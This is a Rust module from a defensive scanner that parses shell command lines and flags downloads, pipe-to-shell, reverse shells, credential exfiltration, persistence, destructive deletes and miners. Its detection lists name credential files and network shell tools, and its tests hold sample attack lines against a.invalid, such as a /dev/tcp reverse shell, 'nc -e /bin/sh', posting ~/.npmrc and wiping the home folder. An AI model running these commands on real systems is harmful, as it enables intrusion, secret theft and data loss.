//! Shell command lines: what they do, told from their words and not from their looks.
//!
//! A small tokenizer for what POSIX shells, `cmd` and PowerShell have in common: quotes,
//! separators, pipes, redirections, substitutions. It does not expand variables; a command
//! whose name is one is reported as `computed`. Scripts given as an argument (`sh -c '…'`,
//! `node -e '…'`, an encoded PowerShell command) are looked at in turn, to a fixed depth.

mod deeds;
mod lex;
mod powershell;
mod system;

use self::lex::commands;
pub use self::lex::{Command, lines};
use super::layers;
use crate::model::{CapabilityKind, Context, Fact, FactKind, Span};

/// Scripts within scripts that are followed.
const MAX_DEPTH: u8 = 4;

/// The facts of one command line, all at `span`: the base name of each command, and `download`,
/// `pipe-to-shell`, `download-and-run`, `reverse-shell`, `persist`, `destructive`, `exfiltrate`,
/// `miner`, `encoded`, `computed`. The value is the command line.
pub fn facts(line: &str, span: &Span) -> Vec<Fact> {
    let mut out = Vec::new();
    scan(line, span, 0, 0, &mut out);
    out.extend(super::parse::shell::sent(line, span));
    out.sort();
    out.dedup();
    out
}

/// What one command does by itself, and the capability that it takes.
pub fn deeds(command: &Command) -> Vec<(&'static str, CapabilityKind)> {
    let loads = system::loads(command);
    let found = [
        (is_reverse_shell(command), "reverse-shell", CapabilityKind::Net),
        (persists(command), "persist", CapabilityKind::FsWrite),
        (is_destructive(command), "destructive", CapabilityKind::FsWrite),
        (wipes(command), "wipe", CapabilityKind::FsWrite),
        (is_miner(command), "miner", CapabilityKind::Net),
        (leaves_root_shell(command), "root-shell", CapabilityKind::FsWrite),
        (loads.is_some(), "system-loader", CapabilityKind::Process),
        (loads == Some(system::Loads::Carried), "system-loader-own", CapabilityKind::Process),
    ];
    let mut out: Vec<_> =
        found.into_iter().filter(|(is, ..)| *is).map(|(_, name, capability)| (name, capability)).collect();
    out.extend(deeds::of(command).into_iter().map(|name| (name, CapabilityKind::FsWrite)));
    out
}

/// Whether a command fetches something.
pub fn downloads_by(command: &Command) -> bool {
    downloads(command)
}

/// What the output of a command tells.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Tells {
    /// Who runs it and where: user, host, folder, addresses.
    Host,
    /// The whole environment.
    Environment,
    /// Credentials.
    Secret,
}

/// What the output of a command line tells of the machine, if anything.
pub fn tells(line: &str) -> Option<Tells> {
    commands(line).iter().map(bare).find_map(|command| tells_of(&command))
}

fn tells_of(command: &Command) -> Option<Tells> {
    let name = base(&command.name);
    if secret(command) {
        let env = matches!(name, "env" | "printenv" | "set");
        return Some(if env { Tells::Environment } else { Tells::Secret });
    }
    let first = command.args.first().map_or("", String::as_str);
    let second = command.args.get(1).map_or("", String::as_str);
    match (name, first, second) {
        ("gh", "auth", "token") | ("npm", "token", _) | ("gcloud", "auth", "print-access-token") => {
            Some(Tells::Secret)
        }
        ("security", "find-generic-password" | "find-internet-password", _) => Some(Tells::Secret),
        (
            "whoami" | "hostname" | "id" | "uname" | "ifconfig" | "ipconfig" | "systeminfo" | "ver" | "pwd"
            | "tasklist" | "lsb_release" | "sw_vers" | "hostnamectl",
            ..,
        )
        | ("ip", "a" | "addr" | "address", _)
        | ("npm", "whoami", _)
        | ("git", "config", "user.email" | "user.name") => Some(Tells::Host),
        _ => None,
    }
}

/// Whether a command line sends a request: over HTTP, or a look-up of a name.
pub fn requests(line: &str) -> bool {
    commands(line).iter().map(bare).any(|command| asks(&command))
}

/// Whether a command line asks for the address of a name.
pub fn looks_up(line: &str) -> bool {
    commands(line).iter().map(bare).any(|command| asks_for_name(&command))
}

fn asks_for_name(command: &Command) -> bool {
    matches!(base(&command.name), "nslookup" | "dig" | "host")
}

fn asks(command: &Command) -> bool {
    downloads(command)
        || asks_for_name(command)
        || matches!(base(&command.name), "ping" | "nc" | "ncat" | "telnet")
}

/// A command without what only starts it: `cmd /c`, `sudo`, `nohup`, `start /B`, `env A=b`.
fn bare(command: &Command) -> Command {
    let mut command = command.clone();
    for _ in 0..MAX_DEPTH {
        let name = base(&command.name).to_ascii_lowercase();
        // Where the command that it starts stands among its arguments.
        let inner = match name.as_str() {
            "cmd" => {
                let flag = |arg: &String| matches!(arg.as_str(), "/c" | "/C" | "/k" | "/K");
                command.args.iter().position(flag).map(|at| at + 1)
            }
            "sudo" | "nohup" | "exec" | "time" | "start" | "setsid" | "doas" | "command" => {
                let flags =
                    command.args.iter().take_while(|arg| arg.starts_with(['-', '/']) && arg.len() < 6);
                let titled =
                    usize::from(name == "start" && command.args.first().is_some_and(String::is_empty));
                Some(flags.count() + titled)
            }
            _ => None,
        };
        let Some(at) = inner.filter(|&at| at < command.args.len()) else {
            return command;
        };
        command.name = command.args[at].clone();
        command.args.drain(..=at);
    }
    command
}

/// Programs that run the file that they are given, beside interpreters.
fn loads(name: &str) -> bool {
    matches!(
        name.to_ascii_lowercase().as_str(),
        "regsvr32"
            | "rundll32"
            | "msiexec"
            | "wscript"
            | "cscript"
            | "mshta"
            | "java"
            | "open"
            | "xdg-open"
            | "explorer"
            | "installutil"
            | "msbuild"
            | "tclsh"
    )
}

/// The facts of a script: line by line, and what its lines do together.
pub fn script(source: &str, index: &crate::model::LineIndex<'_>) -> (Vec<Fact>, u64) {
    let (mut out, mut count) = (Vec::new(), 0);
    let mut fetched: Vec<String> = Vec::new();
    // Variables that hold what a command told of the machine: `H=$(hostname)`.
    let mut told: Vec<String> = Vec::new();
    let powershell = index.file().ends_with(".ps1");
    for (start, line) in lines(source) {
        let span = index.span(start, start + line.len());
        let mut found = facts(&line, &span);
        if let Some(plain) = powershell.then(|| powershell::plain(&line)).flatten() {
            found.extend(facts(&plain, &span).into_iter().map(|mut fact| {
                fact.context.layer += 1;
                fact
            }));
        }
        for command in commands(&line).iter().map(bare) {
            let alone = found.iter().any(|fact| fact.name == "download-and-run");
            if !alone && runs(&command, &fetched) {
                let mut fact =
                    Fact::new(FactKind::Shell, "download-and-run", span.clone()).value(line.as_str());
                fact.capability = Some(CapabilityKind::Net);
                out.push(fact);
            }
            if downloads(&command) {
                fetched.extend(command.outputs());
            }
            if asks(&command) && command.args.iter().any(|arg| told.iter().any(|name| arg.contains(name))) {
                let mut fact = Fact::new(FactKind::Shell, "beacon", span.clone()).value(line.as_str());
                fact.capability = Some(CapabilityKind::Net);
                out.push(fact);
            }
        }
        if let Some((name, value)) = line.trim_start().split_once('=')
            && !name.is_empty()
            && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')
            && commands(value)
                .iter()
                .flat_map(|command| &command.substitutions)
                .any(|inner| tells(inner) == Some(Tells::Host))
        {
            told.extend([format!("${name}"), format!("${{{name}}}")]);
        }
        out.extend(found);
        count += 1;
    }
    out.sort();
    out.dedup();
    (out, count)
}

/// Whether a command starts one of the files, or makes it executable.
fn runs(command: &Command, files: &[String]) -> bool {
    let name = base(&command.name);
    files.iter().any(|file| {
        let file = file.trim_start_matches("./");
        let is = |word: &str| {
            let word = word.trim_start_matches("./");
            // `rundll32 x.dll,Entry`
            word == file || word.split(',').next() == Some(file)
        };
        !file.is_empty()
            && (is(&command.name)
                || ((runs_code(name) || loads(name)) && command.args.iter().any(|arg| is(arg)))
                || (name == "chmod"
                    && command.args.iter().any(|arg| is(arg))
                    && command.args.iter().any(|arg| arg.contains('x') || arg.starts_with('7'))))
    })
}

fn base(word: &str) -> &str {
    let name = word.rsplit(['/', '\\']).next().unwrap_or(word);
    name.strip_suffix(".exe").or_else(|| name.strip_suffix(".cmd")).unwrap_or(name)
}

fn is_shell(name: &str) -> bool {
    matches!(name, "sh" | "bash" | "zsh" | "dash" | "ksh" | "ash" | "fish" | "cmd" | "powershell" | "pwsh")
}

fn runs_code(name: &str) -> bool {
    is_shell(name)
        || matches!(
            name,
            "node"
                | "bun"
                | "deno"
                | "python"
                | "python3"
                | "python2"
                | "perl"
                | "ruby"
                | "php"
                | "osascript"
                | "iex"
        )
}

fn downloads(command: &Command) -> bool {
    let name = base(&command.name);
    let lower = name.to_ascii_lowercase();
    matches!(
        lower.as_str(),
        "curl"
            | "wget"
            | "aria2c"
            | "fetch"
            | "iwr"
            | "irm"
            | "invoke-webrequest"
            | "invoke-restmethod"
            | "bitsadmin"
    ) || (lower == "certutil" && command.args.iter().any(|arg| arg.to_ascii_lowercase().contains("urlcache")))
        || command.args.iter().any(|arg| {
            let arg = arg.to_ascii_lowercase();
            arg.contains("downloadstring(") || arg.contains("downloadfile(") || arg.contains("urllib.request")
        })
}

/// Words that send what they are given.
fn sends(command: &Command) -> bool {
    let file_or_input =
        |arg: &String| arg.starts_with('@') || arg.contains("=@") || arg.contains("$(") || arg.contains('`');
    let name = base(&command.name);
    let flag = |flags: &[&str]| {
        command
            .args
            .iter()
            .any(|arg| flags.iter().any(|flag| arg == flag || arg.starts_with(&format!("{flag}="))))
    };
    match name {
        "curl" => {
            (flag(&["-d", "--data", "--data-binary", "--data-raw", "--data-urlencode", "-F", "--form"])
                && command.args.iter().any(file_or_input))
                || flag(&["-T", "--upload-file"])
        }
        "wget" => flag(&["--post-file", "--body-file"]),
        _ => false,
    }
}

/// Sources of secrets, where their output is piped or substituted into something that sends.
fn secret(command: &Command) -> bool {
    let name = base(&command.name);
    matches!(name, "env" | "printenv" | "set" if command.args.is_empty())
        || command.args.iter().any(|arg| {
            [
                ".npmrc",
                ".ssh/",
                ".aws/",
                ".netrc",
                "/etc/shadow",
                "/etc/passwd",
                ".gnupg",
                ".kube/config",
                ".git-credentials",
            ]
            .iter()
            .any(|path| arg.contains(path))
                || ["/.ssh", "/.aws", "/.gnupg", "/.config/gcloud"].iter().any(|folder| arg.ends_with(folder))
        })
}

/// Programs that print a secret which is kept elsewhere, from their own documentation.
fn prints_secret(command: &Command) -> bool {
    let words: Vec<&str> =
        command.args.iter().map(String::as_str).filter(|arg| !arg.starts_with('-')).take(3).collect();
    let has = |flag: &str| command.args.iter().any(|arg| arg == flag);
    match (base(&command.name), words.as_slice()) {
        ("kubectl" | "oc", words) => {
            words.windows(2).any(|two| matches!(two, ["create", "token"] | ["get", "secret" | "secrets"]))
                || matches!(words, [.., "create"]) && has("token")
        }
        ("gh" | "glab", ["auth", "token", ..])
        | ("aws", ["secretsmanager", "get-secret-value", ..] | ["configure", "get", ..])
        | ("gcloud", ["auth", "print-access-token" | "print-identity-token", ..])
        | ("az", ["account", "get-access-token", ..] | ["keyvault", "secret", "show"])
        | ("vault", ["read" | "kv", ..])
        | ("op", ["read" | "item", ..])
        | ("pass", ["show", ..])
        | ("bw", ["get" | "export", ..])
        | ("secret-tool", ["lookup", ..])
        | ("git", ["credential", "fill"])
        | ("security", ["find-generic-password" | "find-internet-password" | "dump-keychain", ..]) => true,
        ("gpg" | "gpg2", _) => has("--export-secret-keys"),
        _ => false,
    }
}

fn is_destructive(command: &Command) -> bool {
    let targets = [
        "/",
        "/*",
        "~",
        "~/",
        "~/*",
        "$HOME",
        "$HOME/",
        "$HOME/*",
        "${HOME}",
        "%USERPROFILE%",
        "C:\\",
        "c:\\",
    ];
    let aims = command.args.iter().any(|arg| targets.contains(&arg.trim_matches('"')));
    match base(&command.name) {
        "rm" => aims && command.args.iter().any(|arg| arg.starts_with('-') && arg.contains(['r', 'R'])),
        "rd" | "rmdir" | "del" => aims && command.args.iter().any(|arg| arg.eq_ignore_ascii_case("/s")),
        "mkfs" | "shred" => {
            let device = |arg: &String| {
                arg.starts_with("/dev/")
                    && !["/dev/shm/", "/dev/null", "/dev/fd/", "/dev/std"]
                        .iter()
                        .any(|part| arg.starts_with(part))
            };
            command.args.iter().any(|arg| device(arg) || targets.contains(&arg.as_str()))
        }
        "dd" => {
            command.args.iter().any(|arg| arg.starts_with("of=/dev/sd") || arg.starts_with("of=/dev/nvme"))
        }
        _ => false,
    }
}

/// Deletes all of the folder that it stands in: a build folder, or somebody's project.
fn wipes(command: &Command) -> bool {
    let here = |arg: &String| {
        matches!(arg.trim_matches('"'), "*" | "." | "./" | "./*" | ".." | "../*" | "$PWD" | "$(pwd)")
    };
    base(&command.name) == "rm"
        && command.args.iter().any(|arg| arg.starts_with('-') && arg.contains(['r', 'R']))
        && command.args.iter().any(here)
}

/// Whether a path is one of those that start with the user's shell, session or machine.
pub fn starts_again(path: &str) -> bool {
    [
        ".bashrc",
        ".zshrc",
        ".profile",
        ".bash_profile",
        ".zprofile",
        ".zshenv",
        "fish/config.fish",
        "/etc/profile",
        "LaunchAgents",
        "LaunchDaemons",
        "/etc/cron",
        "systemd/system",
        "systemd/user",
        ".config/autostart",
        "\\Startup\\",
        "/Startup/",
    ]
    .iter()
    .any(|part| path.contains(part))
}

fn persists(command: &Command) -> bool {
    let name = base(&command.name).to_ascii_lowercase();
    let args = command.args.join(" ");
    let startup = starts_again;
    (name == "crontab" && !args.contains("-l") && !args.contains("-e"))
        || (name == "schtasks" && args.to_ascii_lowercase().contains("/create"))
        || (name == "reg" && args.to_ascii_lowercase().starts_with("add") && args.contains("\\Run"))
        || (name == "launchctl" && args.starts_with("load"))
        || (name == "systemctl" && args.contains("enable"))
        || (name == "git" && starts_with_git(&command.args))
        || command.redirects.iter().any(|file| startup(file))
        || (name == "tee" && startup(&args))
}

/// `git config --global core.fsmonitor ./watch`: what git starts from then on, in every repository.
fn starts_with_git(args: &[String]) -> bool {
    let words: Vec<&str> = args.iter().map(|arg| arg.trim_matches(['"', '\''])).collect();
    let everywhere =
        words.first() == Some(&"config") && words.iter().any(|word| matches!(*word, "--global" | "--system"));
    let mut rest = words.iter().skip(1).filter(|word| !word.starts_with("--"));
    let (Some(key), Some(value)) = (rest.next(), rest.next()) else { return false };
    let key = key.to_ascii_lowercase();
    let starts = match key.as_str() {
        "core.fsmonitor" => !matches!(*value, "true" | "false" | "1" | "0"),
        "core.sshcommand" | "init.templatedir" | "diff.external" => true,
        "core.hookspath" => !value.starts_with("/dev/null"),
        _ => {
            key.starts_with("alias.") && value.starts_with('!') && value.contains(['|', ';', '$', '&'])
                || key.starts_with("filter.") && !value.starts_with("git-lfs")
        }
    };
    everywhere && starts
}

fn is_reverse_shell(command: &Command) -> bool {
    let name = base(&command.name);
    // What a shell is given to run is looked at by itself; and what neither reads nor runs anything only
    // asks whether somebody listens.
    let asks = matches!(name, ":" | "true" | "echo" | "printf" | "test")
        || is_shell(name) && command.args.iter().any(|arg| arg == "-c");
    // To those that search texts it is a pattern.
    let searches = matches!(name, "grep" | "egrep" | "fgrep" | "rg" | "sed" | "awk" | "gawk" | "jq");
    let arguments = command.args.iter().filter(|_| !searches);
    let network = !asks && arguments.chain(&command.redirects).any(|word| is_socket_elsewhere(word));
    let netcat = matches!(name, "nc" | "ncat" | "netcat")
        && command.args.iter().any(|arg| {
            arg.starts_with('-') && !arg.starts_with("--") && arg.contains(['e', 'c'])
                || arg == "--exec"
                || arg == "--sh-exec"
        });
    let socat =
        name == "socat" && command.args.iter().any(|arg| arg.to_ascii_lowercase().starts_with("exec:"));
    network || netcat || socat
}

/// Whether a word names bash's file of a connection to another machine.
fn is_socket_elsewhere(word: &str) -> bool {
    let host = ["/dev/tcp/", "/dev/udp/"].iter().find_map(|of| Some(word.split_once(of)?.1));
    host.is_some_and(|host| {
        !["127.", "localhost", "::1", "0.0.0.0"]
            .iter()
            .any(|own| host.trim_start_matches('"').starts_with(own))
    })
}

fn is_miner(command: &Command) -> bool {
    matches!(base(&command.name), "xmrig" | "minerd" | "cpuminer" | "ethminer" | "t-rex" | "nbminer")
        || command.args.iter().any(|arg| arg.contains("stratum+") || arg.starts_with("--donate-level"))
        || mines_for(command)
}

/// `-o pool:port -u wallet`, the options that miners of any name share.
fn mines_for(command: &Command) -> bool {
    let after = |flags: [&str; 2]| {
        let at = command.args.iter().position(|arg| flags.contains(&arg.as_str()))?;
        command.args.get(at + 1).map(String::as_str)
    };
    let pool = after(["-o", "--url"]).is_some_and(|pool| {
        let host = |c: char| c.is_ascii_alphanumeric() || matches!(c, '.' | '-');
        pool.rsplit_once(':').is_some_and(|(name, port)| {
            name.contains('.')
                && name.chars().all(host)
                && port.len() > 1
                && port.bytes().all(|b| b.is_ascii_digit())
        })
    });
    let wallet = after(["-u", "--user"]).is_some_and(|user| {
        user.len() >= 26 && user.chars().all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '+'))
    });
    pool && wallet
}

/// A shell with the bit that makes it run as its owner: whoever starts it is root.
fn leaves_root_shell(command: &Command) -> bool {
    let shell = |arg: &String| matches!(base(arg), "sh" | "bash" | "dash" | "zsh" | "ksh");
    let mode = |arg: &String| {
        let digits = arg.trim_start_matches('0');
        (digits.len() == 4 && digits.starts_with(['4', '6']) && digits.bytes().all(|b| b.is_ascii_digit()))
            || arg.contains("+s")
    };
    matches!(base(&command.name), "chmod" | "install")
        && command.args.iter().any(mode)
        && command.args.iter().any(|arg| arg.contains('/') && shell(arg))
}

fn scan(line: &str, span: &Span, layer: u8, depth: u8, out: &mut Vec<Fact>) {
    let written = commands(line);
    let commands: Vec<Command> = written.iter().map(bare).collect();
    let mut add = |name: &str, capability: Option<CapabilityKind>, text: &str| {
        let context = Context { layer, ..Context::default() };
        let mut fact = Fact::new(FactKind::Shell, name, span.clone()).value(text);
        (fact.context, fact.capability) = (context, capability);
        out.push(fact);
    };
    let mut fetched: Vec<String> = Vec::new();
    let mut packed: Vec<String> = Vec::new();
    if depth == 0 {
        // PowerShell's `IEX(New-Object Net.WebClient).DownloadString(…)` has no words to split at.
        let lower = line.to_ascii_lowercase();
        let runs =
            ["iex(", "iex (", "invoke-expression", "|iex", "| iex"].iter().any(|part| lower.contains(part));
        let gets = ["downloadstring(", "invoke-webrequest", "invoke-restmethod", "irm ", "iwr "]
            .iter()
            .any(|part| lower.contains(part));
        if runs && gets && (lower.contains("powershell") || lower.contains("pwsh")) {
            add("pipe-to-shell", Some(CapabilityKind::Net), line);
        }
    }
    for (at, command) in commands.iter().enumerate() {
        let name = base(&command.name);
        let starter = base(&written[at].name);
        if starter != name && !starter.is_empty() {
            add(starter, Some(CapabilityKind::Process), line);
        }
        if name == "$" || name == "`" {
            // What a substitution gives: the substitution itself is looked at.
        } else if name.starts_with('$') || name.starts_with('%') {
            add("computed", Some(CapabilityKind::Process), line);
        } else if !name.is_empty() {
            add(name, Some(CapabilityKind::Process), line);
        }
        if downloads(command) {
            add("download", Some(CapabilityKind::Net), line);
            fetched.extend(command.outputs());
            if command.piped && commands[at + 1..].iter().take(3).any(|next| runs_code(base(&next.name))) {
                add("pipe-to-shell", Some(CapabilityKind::Net), line);
            }
        }
        // `sh -c "$(curl …)"`, `bash <(curl …)`, `iex (irm …)`, `eval $(wget …)`
        let inner = command.substitutions.iter().any(|text| self::commands(text).iter().any(downloads));
        if inner && (runs_code(name) || matches!(name, "eval" | "." | "source") || name.is_empty()) {
            add("pipe-to-shell", Some(CapabilityKind::Net), line);
        }
        if runs(command, &fetched) {
            add("download-and-run", Some(CapabilityKind::Net), line);
        }
        // Host, user and folder in a request, or in a name that is looked up.
        let tell = |inner: &str| tells(inner) == Some(Tells::Host);
        let variable = |arg: &String| {
            [
                "$USER",
                "$HOSTNAME",
                "${USER}",
                "${HOSTNAME}",
                "%USERNAME%",
                "%COMPUTERNAME%",
                "$(pwd)",
                "$PWD",
                "$env:USERNAME",
                "$env:COMPUTERNAME",
            ]
            .iter()
            .any(|name| arg.contains(name))
        };
        if asks(command)
            && (command.substitutions.iter().any(|text| tell(text)) || command.args.iter().any(variable))
            || (command.piped
                && tells_of(command) == Some(Tells::Host)
                && commands[at + 1..].iter().take(4).any(asks))
        {
            add("beacon", Some(CapabilityKind::Net), line);
        }
        let leaks = |inner: &str| self::commands(inner).iter().any(secret);
        // `tar czf x ~/.ssh && curl -F f=@x …`
        if matches!(name, "tar" | "zip" | "7z" | "cp" | "cat" | "gpg") && secret(command) {
            let plain = command.args.iter().filter(|arg| !arg.starts_with(['-', '~', '$']));
            packed.extend(plain.filter(|arg| arg.len() > 2).cloned());
            packed.extend(command.redirects.iter().cloned());
        }
        if sends(command)
            && command.args.iter().any(|arg| packed.iter().any(|file| arg.ends_with(file.as_str())))
        {
            add("exfiltrate", Some(CapabilityKind::Net), line);
        }
        if (sends(command) && (secret(command) || command.substitutions.iter().any(|text| leaks(text))))
            || (secret(command)
                && command.piped
                && commands[at + 1..]
                    .iter()
                    .take(3)
                    .any(|next| matches!(base(&next.name), "curl" | "wget" | "nc" | "ncat")))
            || (prints_secret(command)
                && command.piped
                && commands[at + 1..].iter().take(3).any(|next| {
                    matches!(base(&next.name), "nc" | "ncat") || (sends(next) && base(&next.name) == "curl")
                }))
            || (matches!(name, "curl" | "wget") && command.substitutions.iter().any(|text| leaks(text)))
        {
            add("exfiltrate", Some(CapabilityKind::Net), line);
        }
        for (name, capability) in deeds(command) {
            add(name, Some(capability), line);
        }
    }
    if depth >= MAX_DEPTH {
        return;
    }
    for command in &written {
        for inner in &command.substitutions {
            scan(inner, span, layer, depth + 1, out);
        }
        within(command, line, span, layer, depth, out);
    }
}

/// Scripts given as an argument.
fn within(command: &Command, line: &str, span: &Span, layer: u8, depth: u8, out: &mut Vec<Fact>) {
    let name = base(&command.name);
    let after = |flags: &[&str]| {
        let at =
            command.args.iter().position(|arg| flags.iter().any(|flag| arg.eq_ignore_ascii_case(flag)))?;
        command.args.get(at + 1)
    };
    match name {
        "sh" | "bash" | "zsh" | "dash" | "ksh" | "ash" => {
            // `-c`, also among other letters (`-lc`).
            let at = command
                .args
                .iter()
                .position(|arg| arg.starts_with('-') && !arg.starts_with("--") && arg.ends_with('c'));
            if let Some(script) = at.and_then(|at| command.args.get(at + 1)) {
                scan(script, span, layer, depth + 1, out);
            }
        }
        "cmd" => {
            if let Some(at) = command.args.iter().position(|arg| arg.eq_ignore_ascii_case("/c")) {
                scan(&command.args[at + 1..].join(" "), span, layer, depth + 1, out);
            }
        }
        "eval" | "iex" | "Invoke-Expression" | "sudo" | "nohup" | "exec" | "time" | "npx" | "cross-env"
        | "env" | "start" => {
            let rest: Vec<&str> = command
                .args
                .iter()
                .map(String::as_str)
                .skip_while(|arg| {
                    let option = arg.starts_with('/') && command.name == "start";
                    arg.contains('=') || arg.starts_with('-') || arg.is_empty() || option
                })
                .collect();
            if !rest.is_empty() {
                scan(&rest.join(" "), span, layer, depth + 1, out);
            }
        }
        "powershell" | "pwsh" => {
            // Any start of the option's name will do.
            let is_encoded = |arg: &String| {
                let arg = arg.to_ascii_lowercase().replace('`', "");
                arg == "-ec" || (arg.len() > 1 && "-encodedcommand".starts_with(&arg))
            };
            let at = command.args.iter().position(is_encoded);
            let encoded = at.and_then(|at| command.args.get(at + 1));
            if let Some(script) = encoded.and_then(|text| utf16(text)) {
                out.push(
                    Fact::new(FactKind::Shell, "encoded", span.clone())
                        .value(line)
                        .gives(CapabilityKind::DynamicCode),
                );
                scan(&script, span, layer + 1, depth + 1, out);
            } else if let Some(at) = command
                .args
                .iter()
                .position(|arg| arg.eq_ignore_ascii_case("-command") || arg.eq_ignore_ascii_case("-c"))
            {
                scan(&command.args[at + 1..].join(" "), span, layer, depth + 1, out);
            }
        }
        "node" | "bun" => {
            if let Some(code) = after(&["-e", "--eval", "-p", "--print"]) {
                let parsed = super::parse::js::parse("inline.js", code);
                for mut fact in parsed.facts {
                    fact.span = span.clone();
                    fact.context.layer = fact.context.layer.saturating_add(layer);
                    if fact.kind == FactKind::Literal && fact.name == "command" {
                        scan(&fact.value, span, fact.context.layer, depth + 1, out);
                    }
                    out.push(fact);
                }
            }
        }
        _ => {}
    }
    // `echo <base64> | base64 -d | sh`
    for arg in command.args.iter().filter(|_| matches!(name, "echo" | "printf")) {
        if command.piped
            && let Some((_, bytes)) = layers::decode(arg)
        {
            out.push(
                Fact::new(FactKind::Shell, "encoded", span.clone())
                    .value(line)
                    .gives(CapabilityKind::DynamicCode),
            );
            scan(&String::from_utf8_lossy(&bytes), span, layer + 1, depth + 1, out);
        }
    }
}

/// PowerShell's encoded command: base64 of UTF-16LE.
fn utf16(text: &str) -> Option<String> {
    use base64::Engine as _;
    let bytes = base64::engine::general_purpose::STANDARD.decode(text).ok()?;
    let units: Vec<u16> = bytes.as_chunks().0.iter().map(|pair| u16::from_le_bytes(*pair)).collect();
    String::from_utf16(&units).ok()
}

#[cfg(test)]
mod tests {
    use super::*;
    use base64::Engine as _;
    use proptest::prelude::*;

    fn deeds(line: &str) -> Vec<String> {
        const DEEDS: &[&str] = &[
            "download",
            "pipe-to-shell",
            "download-and-run",
            "reverse-shell",
            "persist",
            "destructive",
            "exfiltrate",
            "miner",
            "encoded",
            "computed",
            "beacon",
        ];
        let mut names: Vec<_> =
            facts(line, &Span::file("package.json")).into_iter().map(|fact| fact.name).collect();
        names.retain(|name| DEEDS.contains(&name.as_str()));
        names.sort();
        names.dedup();
        names
    }

    #[test]
    fn what_lines_do() {
        let powershell = base64::engine::general_purpose::STANDARD.encode(
            "iex (irm http://a.invalid/x.ps1)".encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<_>>(),
        );
        let cases: &[(&str, &[&str])] = &[
            ("curl -fsSL https://a.invalid/x.sh | bash", &["download", "pipe-to-shell"]),
            ("curl https://a.invalid/x.sh | sudo -E bash -", &["download", "pipe-to-shell"]),
            ("bash -c \"$(curl -s https://a.invalid/x)\"", &["download", "pipe-to-shell"]),
            ("bash <(wget -qO- https://a.invalid/x)", &["download", "pipe-to-shell"]),
            (
                "curl -o /tmp/a https://a.invalid/a && chmod +x /tmp/a && /tmp/a",
                &["download", "download-and-run"],
            ),
            (
                "wget https://a.invalid/jsextension -O jsextension; ./jsextension",
                &["download", "download-and-run"],
            ),
            ("bash -i >& /dev/tcp/a.invalid/4444 0>&1", &["reverse-shell"]),
            ("exec 3<>/dev/tcp/127.0.0.1/5432", &[]),
            ("grep -q 'nc|/dev/tcp/' commands.txt", &[]),
            ("nc -e /bin/sh a.invalid 4444", &["reverse-shell"]),
            ("env | curl -X POST --data-binary @- https://a.invalid", &["download", "exfiltrate"]),
            ("curl -d @$HOME/.npmrc https://a.invalid", &["download", "exfiltrate"]),
            ("wget -q https://a.invalid/?h=$(cat ~/.ssh/id_rsa)", &["download", "exfiltrate"]),
            ("rm -rf ~", &["destructive"]),
            ("echo x >> ~/.bashrc", &["persist"]),
            ("./xmrig -o stratum+tcp://pool.invalid:3333 -u w", &["miner"]),
            (
                "echo Y3VybCBodHRwczovL2EuaW52YWxpZC94IHwgc2g= | base64 -d | sh",
                &["download", "encoded", "pipe-to-shell"],
            ),
            ("curl -s https://a.invalid/?u=$(whoami)", &["beacon", "download"]),
            (
                "powershell -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('https://a.invalid')\"",
                &["download", "pipe-to-shell"],
            ),
            ("tar czf /tmp/k ~/.ssh && curl -F f=@/tmp/k https://a.invalid", &["download", "exfiltrate"]),
            ("tar czf /tmp/k dist && curl -F f=@/tmp/k https://a.invalid", &["download"]),
            ("nslookup $(hostname).a.invalid", &["beacon"]),
            ("hostname | base64 | xargs -I{} curl https://a.invalid/{}", &[]),
            ("uname -a | curl -d @- https://a.invalid", &["beacon", "download"]),
            (
                "cmd /c curl https://a.invalid/a -o a.dll && regsvr32 -s a.dll",
                &["download", "download-and-run"],
            ),
            ("uname -m && curl -O https://a.invalid/list.txt", &["download"]),
            ("start /B node a.js", &[]),
            (
                "node -e \"require('child_process').exec('curl https://a.invalid/x | sh')\"",
                &["download", "pipe-to-shell"],
            ),
            ("node-gyp rebuild || exit 0", &[]),
            ("husky install", &[]),
            ("rm -rf dist && tsc -p . && node scripts/build.js", &[]),
            ("node -e \"try{require('./postinstall')}catch(e){}\"", &[]),
            ("npx only-allow pnpm", &[]),
            ("echo 'curl x | sh'", &[]),
        ];
        for (line, wanted) in cases {
            assert_eq!(deeds(line), *wanted, "{line}");
        }
        assert_eq!(
            deeds(&format!("powershell -nop -enc {powershell}")),
            ["download", "encoded", "pipe-to-shell"]
        );
    }

    #[test]
    fn lines_of_a_script_belong_together() {
        let found = |text: &str| {
            let (facts, lines) = script(text, &crate::model::LineIndex::new("a.sh", text));
            (facts.iter().filter(|fact| fact.name == "download-and-run").count(), lines)
        };
        assert_eq!(found("curl https://a.invalid/t -o t\nchmod +x t\n./t\n"), (2, 3));
        let beacon = "H=$(hostname)\ncurl https://a.invalid/?h=$H\n";
        let (facts, _) = script(beacon, &crate::model::LineIndex::new("a.sh", beacon));
        assert!(facts.iter().any(|fact| fact.name == "beacon" && fact.span.line == 2));
        assert_eq!(found("curl https://a.invalid/t.json -o t.json\ncat t.json\n"), (0, 2));
    }

    proptest! {
        #[test]
        fn no_line_panics(line in "\\PC{0,120}", soup in "[a-z '\"`$()|;&<>\\\\-]{0,120}") {
            let _ = (deeds(&line), deeds(&soup));
            let _ = lines(&soup);
        }
    }
}
